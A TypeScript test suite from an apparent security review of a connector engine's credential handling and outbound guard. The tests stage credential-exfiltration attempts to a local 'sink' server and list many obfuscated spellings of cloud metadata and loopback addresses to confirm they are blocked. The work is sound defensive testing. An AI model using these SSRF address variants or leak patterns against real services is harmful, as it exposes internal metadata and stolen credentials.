// Security review: attacks on credential values and the outbound guard through the engine.
import { describe, expect, it } from "vitest";
import type { ConnectorDefinition, HttpMethod, Step, StepBody, StepRequest } from "./definition.ts";
import { StepError } from "./errors.ts";
import { createNodeFetch, type Resolver } from "./node-fetch.ts";
import { checkUrl, EMPTY_POLICY, type OutboundPolicy, parseAllowList } from "./outbound.ts";
import { type CredentialInput, type RunResult, runSteps } from "./run.ts";
import type { FetchLike } from "./send.ts";
import { json, localServers, policyFor, recordingSleep, type TestServer } from "./test-helpers.ts";

const server = localServers();

/** A target that answers every request with an empty JSON object. */
function okServer(): Promise<TestServer> {
  return server((_, res) => json(res, 200, {}));
}

/** The run's credential `tok`, bound to the vendor's host. */
function boundTo(
  vendor: TestServer,
  value: string,
  extra: Partial<CredentialInput> = {},
): CredentialInput {
  return { value, allowedHosts: [`127.0.0.1:${vendor.port}`], ...extra };
}

const BEARER = { type: "bearer", credential: "tok" } as const;
/** Sends `tok` in the query parameter `key` (the echo vendor reflects it). */
const ECHO_KEY = { query: { key: "{{credentials.tok}}" } };

/** A step that GETs `url` unless `request` says otherwise. */
function step(
  id: string,
  url: string,
  request: Partial<StepRequest> = {},
  extra: Partial<Omit<Step, "id" | "request">> = {},
): Step {
  return { id, request: { method: "GET", url, ...request }, ...extra };
}

/** A one-step definition (step `s`) that sends `tok` as a bearer token. */
function bearerCall(
  url: string,
  extra: { method?: HttpMethod; body?: StepBody; extract?: Record<string, string> } = {},
): ConnectorDefinition {
  const { method = "GET", body, extract } = extra;
  const request = { method, auth: BEARER, ...(body ? { body } : {}) };
  return { steps: [step("s", url, request, extract ? { extract } : {})] };
}

/** What the Node fetch throws for `url`, resolving names with `resolve`. */
function nodeFetchError(policy: OutboundPolicy, resolve: Resolver, url: string): Promise<unknown> {
  return createNodeFetch({ policy, resolve })(url, {
    method: "GET",
    headers: new Headers(),
    redirect: "manual",
    signal: new AbortController().signal,
  }).catch((e: unknown) => e);
}

/** A vendor that reflects its query string back as JSON (many error pages do the same). */
async function echo(): Promise<TestServer> {
  return server((req, res) => {
    const url = new URL(req.url, "http://x");
    json(res, 200, {
      args: Object.fromEntries(url.searchParams),
      auth: req.headers.authorization ?? null,
      nested: { key: url.searchParams.get("key") },
    });
  });
}

function run(
  definition: ConnectorDefinition,
  secret: string,
  vendor: TestServer,
  ...others: TestServer[]
) {
  return runSteps(
    definition,
    {
      input: {},
      credentials: {
        tok: boundTo(vendor, secret, { queryParam: "key" }),
      },
    },
    { fetch, policy: policyFor(vendor, ...others), sleep: recordingSleep().sleep, random: () => 0 },
  );
}

function everything(result: RunResult): string {
  return JSON.stringify(result);
}

describe("review: an echoed credential cannot be recovered through extraction", () => {
  it("a member cannot learn an echoed credential through JSONPath filter comparisons (an oracle over the secret)", async () => {
    const vendor = await echo();
    const definition: ConnectorDefinition = {
      steps: [
        step("probe", `${vendor.origin}/v1/echo`, ECHO_KEY, {
          extract: {
            below_m: "$.args[?@ < 'm']",
            exact: "$[?@.key == 'aaaaaaaaaaaaaaaaaaaa']",
            length20: "$[?length(@.key) == 20]",
            starts_a: "$.nested[?@ >= 'a' && @ < 'b']",
            bearer: "$[?@.auth == 'Bearer aaaaaaaaaaaaaaaaaaaa']",
          },
        }),
      ],
    };
    const low = await run(definition, "aaaaaaaaaaaaaaaaaaaa", vendor);
    const high = await run(definition, "zzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzz", vendor);
    expect(low.status).toBe("succeeded");
    expect(high.status).toBe("succeeded");
    // The two secrets differ in every property the filters test: the results must not.
    expect(low.output).toEqual(high.output);
    expect(low.steps[0]?.extracted).toEqual(high.steps[0]?.extracted);
  });

  it("a deeply nested response fails its extraction with parse_error when the run holds credentials", async () => {
    const vendor = await server((_, res) => {
      res.writeHead(200, { "content-type": "application/json" });
      res.end(`${"[".repeat(200_000)}${"]".repeat(200_000)}`);
    });
    const result = await run(
      { steps: [step("deep", `${vendor.origin}/`, {}, { extract: { a: "$[0]" } })] },
      "deep-secret",
      vendor,
    );
    expect(result.status).toBe("failed");
    expect(result.steps[0]?.error?.kind).toBe("parse_error");
  });

  it("a member cannot forward an echoed credential to another host in a later step", async () => {
    const vendor = await echo();
    const sink = await okServer();
    const secret = "sk_live_Forward_Me_123";
    const result = await run(
      {
        steps: [
          step("probe", `${vendor.origin}/v1/echo`, ECHO_KEY, {
            extract: { key: "$.args.key", all: "$", auth: "$.args" },
          }),
          step("leak", `${sink.origin}/collect?k={{steps.probe.key}}`, {
            method: "POST",
            headers: { "X-All": "{{steps.probe.auth}}" },
            body: {
              type: "json",
              value: { all: "{{steps.probe.all}}", k: "x{{steps.probe.key}}" },
            },
          }),
        ],
      },
      secret,
      vendor,
      sink,
    );
    expect(result.status).toBe("succeeded");
    const seen = JSON.stringify(sink.requests);
    expect(seen).not.toContain(secret);
    expect(seen).not.toContain(encodeURIComponent(secret));
    expect(everything(result)).not.toContain(secret);
  });

  it("a member cannot send a credential to a host outside its binding through the Basic auth username", async () => {
    const vendor = await echo();
    const sink = await okServer();
    const result = await runSteps(
      {
        steps: [
          step("s", `${sink.origin}/`, {
            auth: { type: "basic", username: "{{credentials.other}}", credential: "free" },
          }),
        ],
      },
      {
        input: {},
        credentials: {
          other: { value: "other-secret", allowedHosts: [`127.0.0.1:${vendor.port}`] },
          free: { value: "free-secret", allowedHosts: [`127.0.0.1:${sink.port}`] },
        },
      },
      { fetch, policy: policyFor(vendor, sink), sleep: recordingSleep().sleep },
    );
    expect(result.status).toBe("failed");
    expect(result.steps[0]?.error?.kind).toBe("blocked");
    expect(sink.requests).toHaveLength(0);
  });

  it("a member cannot send a credential onward through a redirect from an allowed host", async () => {
    const sink = await okServer();
    const vendor = await server((_, res) => {
      res.writeHead(302, { location: `${sink.origin}/steal?x=1` });
      res.end();
    });
    const result = await run(bearerCall(`${vendor.origin}/`), "redirected-secret", vendor, sink);
    expect(result.steps[0]?.error?.kind).toBe("blocked");
    expect(sink.requests).toHaveLength(0);
  });
});

describe("review: the outbound guard", () => {
  it("refuses metadata and loopback addresses in every spelling", () => {
    for (const url of [
      "http://169.254.169.254/latest/meta-data/",
      "http://2852039166/",
      "http://0xa9fea9fe/",
      "http://0251.0376.0251.0376/",
      "http://0xa9.254.0251.0xfe/",
      "http://169.254.43518/",
      "http://[::ffff:169.254.169.254]/",
      "http://[::ffff:a9fe:a9fe]/",
      "http://[0:0:0:0:0:ffff:7f00:1]/",
      "http://[64:ff9b::a9fe:a9fe]/",
      "http://[2002:a9fe:a9fe::1]/",
      "http://[::127.0.0.1]/",
      "http://[fd00:ec2::254]/",
      "http://[fe80::1%25eth0]/",
      "http://metadata.google.internal./computeMetadata/v1/",
      "http://METADATA.GOOGLE.INTERNAL/",
      "http://metadata/",
      "http://localhost./",
      "http://127.1/",
      "http://0/",
      "http://%31%32%37.0.0.1/",
      "http://１２７.０.０.１/",
      "http://127.0.0.1.:80/",
      "http://instance-data./",
      "http://kubernetes.default.svc/",
      "http://metadata.goog/",
      "http://[::]/",
      "http://0.0.0.0:5432/",
    ]) {
      expect(checkUrl(url, EMPTY_POLICY).ok, url).toBe(false);
    }
  });

  it("an OUTBOUND_ALLOW_HOSTS entry with a port allows that port only, by literal or by DNS", async () => {
    const policy = parseAllowList("127.0.0.1:8788");
    expect(checkUrl("http://127.0.0.1:8788/", policy).ok).toBe(true);
    expect(checkUrl("http://127.0.0.1:5432/", policy).ok).toBe(false);
    expect(checkUrl("http://127.0.0.1/", policy).ok).toBe(false);
    expect(checkUrl("http://0x7f000001:8788/", policy).ok).toBe(true);
    const resolve: Resolver = async () => [{ address: "127.0.0.1", family: 4 }];
    const error = await nodeFetchError(policy, resolve, "http://rebind.example:5432/");
    expect(error).toBeInstanceOf(StepError);
    expect((error as StepError).kind).toBe("blocked");
  });

  it("a name resolving to an IPv4-mapped metadata address is refused in the Node path", async () => {
    const resolve: Resolver = async () => [
      { address: "93.184.216.34", family: 4 },
      { address: "::ffff:169.254.169.254", family: 6 },
    ];
    const error = await nodeFetchError(EMPTY_POLICY, resolve, "http://mixed.example/");
    expect((error as StepError).kind).toBe("blocked");
  });

  it("a templated subdomain label cannot turn the host into an address", async () => {
    const result = await runSteps(
      { steps: [{ id: "s", request: { method: "GET", url: "http://{{input.l}}.0.0.1/" } }] },
      { input: { l: "127" }, credentials: {} },
      { fetch, policy: EMPTY_POLICY, sleep: recordingSleep().sleep },
    );
    expect(result.status).toBe("failed");
  });
});

function runWith(
  definition: ConnectorDefinition,
  credential: CredentialInput,
  policy: OutboundPolicy,
  fetchImpl: FetchLike = fetch,
) {
  return runSteps(
    definition,
    { input: {}, credentials: { tok: credential } },
    { fetch: fetchImpl, policy, sleep: recordingSleep().sleep, random: () => 0 },
  );
}

function leakedDigits(result: RunResult, digits: string): boolean {
  return JSON.stringify(result).includes(digits);
}

describe("issue 11 finding 1: a digits-only credential echoed as a JSON number", () => {
  for (const digits of ["8675309123", "1234567890123456789012"]) {
    it(`never shows in output, traces or a later request to another host (${digits.length} digits)`, async () => {
      // The vendor echoes what it was given as a number (its tags endpoint counts them).
      const vendor = await server((_, res) => {
        res.writeHead(200, { "content-type": "application/json" });
        res.end(`{"quantity": ${digits}}`);
      });
      const sink = await okServer();
      const result = await runWith(
        {
          steps: [
            step(
              "tags",
              `${vendor.origin}/v1/people/p/tags`,
              { method: "POST", auth: BEARER, body: { type: "json", value: { n: 1 } } },
              { extract: { q: "$.quantity" } },
            ),
            step("send", `${sink.origin}/c/{{steps.tags.q}}?q={{steps.tags.q}}`),
          ],
          fieldMapping: { notes: "{{steps.tags.q}}" },
        },
        boundTo(vendor, digits),
        policyFor(vendor, sink),
      );
      expect(leakedDigits(result, digits)).toBe(false);
      // A rounded double still gives away the leading digits.
      expect(JSON.stringify(result)).not.toContain(digits.slice(0, 12));
      expect(JSON.stringify(sink.requests)).not.toContain(digits.slice(0, 8));
      expect(result.output.tags?.q).toBe("[REDACTED]");
    });
  }

  it("a request that would carry the secret to a host outside its binding is blocked, however it was assembled", async () => {
    const secret = "9988776655443322";
    const vendor = await server((_, res) =>
      json(res, 200, { a: secret.slice(0, 8), b: secret.slice(8) }),
    );
    const sink = await okServer();
    const result = await runWith(
      {
        steps: [
          step(
            "halves",
            `${vendor.origin}/`,
            { auth: BEARER },
            { extract: { a: "$.a", b: "$.b" } },
          ),
          step("join", `${sink.origin}/c?x={{steps.halves.a}}{{steps.halves.b}}`),
        ],
      },
      boundTo(vendor, secret),
      policyFor(vendor, sink),
    );
    expect(result.steps[1]?.error?.kind).toBe("blocked");
    expect(sink.requests).toHaveLength(0);
    expect(JSON.stringify(result)).not.toContain(secret);
  });
});

describe("issue 11 finding 2: vendor JSON escapings in stored traces", () => {
  const secret = "sk/live&<tok>+'9";
  const escapings: [string, (s: string) => string][] = [
    ["PHP \\/", (s) => JSON.stringify(s).replace(/\//g, "\\/")],
    [
      "Go \\u0026 \\u003c \\u003e",
      (s) =>
        JSON.stringify(s)
          .replace(/&/g, "\\u0026")
          .replace(/</g, "\\u003c")
          .replace(/>/g, "\\u003e"),
    ],
    [".NET \\u002B", (s) => JSON.stringify(s).replace(/\+/g, "\\u002B").replace(/'/g, "\\u0027")],
    [
      "HTML entities in a JSON string",
      (s) => JSON.stringify([...s].map((c) => `&#${c.charCodeAt(0)};`).join("")),
    ],
  ];
  for (const [name, spell] of escapings) {
    it(`a response echoing the credential with ${name} is stored redacted`, async () => {
      const vendor = await server((_, res) => {
        res.writeHead(200, { "content-type": "application/json" });
        res.end(`{"echo": ${spell(secret)}, "ok": true}`);
      });
      const result = await runWith(
        bearerCall(`${vendor.origin}/`, { extract: { echo: "$.echo" } }),
        boundTo(vendor, secret),
        policyFor(vendor),
      );
      const body = result.steps[0]?.responseBody ?? "";
      expect(JSON.parse(body)).toEqual({ echo: "[REDACTED]", ok: true });
      expect(body).not.toContain(spell(secret).slice(1, -1));
      expect(result.output.s?.echo).toBe("[REDACTED]");
    });
  }

  it("a text response echoing an escaped spelling is redacted too", async () => {
    const vendor = await server((_, res) => {
      res.writeHead(400, { "content-type": "text/html" });
      res.end(
        `<p>bad key ${[...secret].map((c) => `&#x${c.charCodeAt(0).toString(16)};`).join("")}</p>`,
      );
    });
    const result = await runWith(
      bearerCall(`${vendor.origin}/`),
      boundTo(vendor, secret),
      policyFor(vendor),
    );
    expect(result.steps[0]?.responseBody).toBe("<p>bad key [REDACTED]</p>");
  });
});

describe("issue 11 finding 7: credentials only over https", () => {
  const credential = { value: "https-only-secret", allowedHosts: ["api.vendor.example"] };
  function stub(responses: Record<string, () => Response>): { fetch: FetchLike; calls: string[] } {
    const calls: string[] = [];
    return {
      calls,
      fetch: async (url) => {
        calls.push(url);
        const make = responses[url];
        return make ? make() : new Response("{}", { status: 200 });
      },
    };
  }

  it("a credential-bearing request over plain http to an allowed host is blocked without sending", async () => {
    const { fetch: f, calls } = stub({});
    const result = await runWith(
      bearerCall("http://api.vendor.example/v1"),
      credential,
      EMPTY_POLICY,
      f,
    );
    expect(result.steps[0]?.error?.kind).toBe("blocked");
    expect(calls).toHaveLength(0);
  });

  it("a 307 from https to http keeps the body, so it is blocked", async () => {
    const { fetch: f, calls } = stub({
      "https://api.vendor.example/v1": () =>
        new Response(null, { status: 307, headers: { location: "http://api.vendor.example/v1" } }),
    });
    const result = await runWith(
      bearerCall("https://api.vendor.example/v1", {
        method: "POST",
        body: { type: "json", value: { k: "{{credentials.tok}}" } },
      }),
      { ...credential, placements: ["header", "body"] },
      EMPTY_POLICY,
      f,
    );
    expect(result.steps[0]?.error?.kind).toBe("blocked");
    expect(calls).toEqual(["https://api.vendor.example/v1"]);
  });

  it("the same request over https is sent", async () => {
    const { fetch: f, calls } = stub({});
    const result = await runWith(
      bearerCall("https://api.vendor.example/v1"),
      credential,
      EMPTY_POLICY,
      f,
    );
    expect(result.status).toBe("succeeded");
    expect(calls).toEqual(["https://api.vendor.example/v1"]);
  });
});

describe("issue 11 finding 8: placements and taint at run time", () => {
  /** The demo target's habit: the e-mail domain comes back title-cased as the company name. */
  async function transformingVendor(): Promise<TestServer> {
    return server((req, res) => {
      const email = new URL(req.url, "http://x").searchParams.get("email") ?? "";
      const domain = email.split("@")[1] ?? "";
      const name = domain.charAt(0).toUpperCase() + domain.slice(1);
      json(res, 200, { company: { name: `${name} Ltd`, domain: domain.toUpperCase() } });
    });
  }
  const secret = "examplesecrettokenvalue";
  function lookup(vendor: TestServer, sink: TestServer): ConnectorDefinition {
    return {
      steps: [
        step(
          "find",
          `${vendor.origin}/v1/people?email=x@{{credentials.tok}}`,
          {},
          { extract: { company: "$.company.name", domain: "$.company.domain" } },
        ),
        step("send", `${sink.origin}/c?x={{steps.find.company}}`),
      ],
      fieldMapping: { company: "{{steps.find.company}}", notes: "fixed" },
    };
  }

  it("a credential in the URL without the owner's query placement is blocked without sending", async () => {
    const vendor = await transformingVendor();
    const sink = await okServer();
    const result = await runWith(
      lookup(vendor, sink),
      boundTo(vendor, secret),
      policyFor(vendor, sink),
    );
    expect(result.steps[0]?.error?.kind).toBe("blocked");
    expect(vendor.requests).toHaveLength(0);
  });

  it("with a query placement, values extracted from the answer are tainted: redacted, kept to the credential's hosts, never mapped", async () => {
    const vendor = await transformingVendor();
    const sink = await okServer();
    const result = await runWith(
      lookup(vendor, sink),
      boundTo(vendor, secret, { placements: ["header", "query"] }),
      policyFor(vendor, sink),
    );
    expect(result.steps[0]?.outcome).toBe("succeeded");
    expect(result.output.find).toEqual({ company: "[REDACTED]", domain: "[REDACTED]" });
    expect(result.steps[0]?.responseBody).toBeNull();
    expect(result.steps[1]?.error?.kind).toBe("blocked");
    expect(sink.requests).toHaveLength(0);
    expect(JSON.stringify(result).toLowerCase()).not.toContain(secret);
  });

  it("a tainted value may go back to the credential's own hosts, and the mapping it feeds is skipped", async () => {
    const vendor = await transformingVendor();
    const definition = lookup(vendor, vendor);
    const result = await runWith(
      definition,
      boundTo(vendor, secret, { placements: ["header", "query"] }),
      policyFor(vendor),
    );
    expect(result.status).toBe("succeeded");
    expect(result.mapping).toEqual({ notes: "fixed" });
    expect(result.mappingSkipped).toEqual([
      { field: "company", reason: 'fed by a value tainted by credential "tok"' },
    ]);
    expect(result.steps[1]?.url).not.toMatch(/examplesecret/i);
  });

  it("a credential in its pinned query parameter taints nothing", async () => {
    const vendor = await server((req, res) => json(res, 200, { id: req.url.length }));
    const sink = await okServer();
    const result = await runWith(
      {
        steps: [
          step(
            "find",
            `${vendor.origin}/v1?key={{credentials.tok}}`,
            {},
            { extract: { id: "$.id" } },
          ),
          step("send", `${sink.origin}/c?id={{steps.find.id}}`),
        ],
      },
      boundTo(vendor, secret, { queryParam: "key" }),
      policyFor(vendor, sink),
    );
    expect(result.status).toBe("succeeded");
    expect(typeof result.output.find?.id).toBe("number");
    expect(sink.requests).toHaveLength(1);
  });
});

describe("issue 11 finding 9: the URL serialiser's spelling", () => {
  it("a secret with ' in a query is redacted from the trace URL (%27, not encodeURIComponent's ')", async () => {
    // Neither encodeURIComponent's spelling (it's%20a…) nor the form's (it%27s+a…).
    const secret = "it's a secret key";
    const vendor = await okServer();
    const result = await runWith(
      { steps: [step("s", `${vendor.origin}/v1?key={{credentials.tok}}`)] },
      boundTo(vendor, secret, { queryParam: "key" }),
      policyFor(vendor),
    );
    expect(vendor.requests[0]?.url).toContain("%27");
    expect(result.steps[0]?.url).toBe(`${vendor.origin}/v1?key=[REDACTED]`);
  });
});
